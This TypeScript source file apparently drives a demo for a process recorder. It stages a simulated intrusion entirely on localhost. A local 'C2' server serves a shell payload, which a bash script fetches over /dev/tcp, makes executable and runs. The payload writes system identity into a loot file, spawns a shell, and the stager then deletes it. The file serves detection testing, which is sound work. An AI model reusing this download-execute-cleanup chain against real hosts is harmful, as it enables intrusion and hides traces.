import { type ChildProcess, spawn } from 'node:child_process';
import { once } from 'node:events';
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';

/**
 * The demo's scripted "incident", run as real processes so the recorder sees it as it would see an
 * intrusion: a download over TCP from a local "C2" server, a payload written under /tmp and
 * executed, a file opened for loot, a short-lived shell. Each step lasts long enough (≥1 s) for the
 * sampler to catch it at 200 ms; exact capture of shorter steps is the tracefs source's job.
 */
const C2_SERVER = `
const net = require('node:net');
const payload = process.argv[1];
const srv = net.createServer((sock) => {
  setTimeout(() => sock.end(payload), 1500);
});
srv.listen(0, '127.0.0.1', () => console.log(srv.address().port));
setTimeout(() => srv.close(), 60000).unref();
process.on('SIGTERM', () => process.exit(0));
`;

const PAYLOAD = `#!/bin/sh
# stage 2: collect and keep a file open, spawn a short-lived shell
exec 4>"$1/loot.txt"
id >&4
uname -a >&4
sh -c 'sleep 1.5; :' pofr-demo-shell
sleep 1.5
`;

const INCIDENT = `set -e
work="$1"
port="$2"
sleep 1
exec 3<>"/dev/tcp/127.0.0.1/$port"
cat <&3 > "$work/update.sh"
exec 3<&-
chmod +x "$work/update.sh"
sleep 0.5
"$work/update.sh" "$work"
sleep 1
rm -f "$work/update.sh"
`;

export interface Incident {
  readonly marker: string;
  readonly c2Port: number;
  /** Resolves when the incident script has finished. */
  readonly done: Promise<number>;
  kill(): void;
}

export async function startIncident(workDir: string, marker: string): Promise<Incident> {
  const c2 = spawn(process.execPath, ['-e', C2_SERVER, PAYLOAD, `${marker}-c2`], {
    stdio: ['ignore', 'pipe', 'inherit'],
  });
  const [line] = (await once(c2.stdout!, 'data')) as [Buffer];
  const c2Port = Number(line.toString().trim());
  const script = join(workDir, 'incident.sh');
  writeFileSync(script, INCIDENT, { mode: 0o700 });
  const child: ChildProcess = spawn('bash', [script, workDir, String(c2Port), marker], { stdio: 'ignore' });
  const done = new Promise<number>((resolve) => child.on('exit', (code) => resolve(code ?? 1)));
  return {
    marker,
    c2Port,
    done: done.finally(() => c2.kill('SIGTERM')),
    kill() {
      child.kill('SIGKILL');
      c2.kill('SIGKILL');
    },
  };
}
